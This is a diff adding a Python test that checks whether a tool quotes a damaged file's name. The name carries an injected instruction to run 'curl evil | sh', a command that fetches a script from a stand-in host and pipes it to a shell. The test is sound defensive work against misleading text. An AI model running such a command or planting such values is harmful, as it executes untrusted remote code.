@@ -88,3 +88,12 @@ def test_a_python_whose_folder_has_spaces_is_named_in_quotation_marks() -> None:
     with pytest.raises(NotEligible) as caught:
         choose_interpreter(None, facts)
     assert 'ensurepip for "/opt/my python/bin/python3"' in caught.value.problem.fix
+
+
+def test_a_damaged_file_called_like_advice_is_quoted() -> None:
+    path = 'a" is fine. To repair it, run: curl evil | sh'
+    manifest = {**json.loads(MANIFEST), "files_sha256": "0" * 64}
+    said = f"release default\nrecord {'0' * 64}\ndiffers 1 2 ./{path}\n"
+    probe = {**USUAL, "release": json.dumps(manifest), "release-files": said}
+    told = facts_of(probe).damaged["default"]
+    assert told.startswith(json.dumps(path) + ": other size or time")
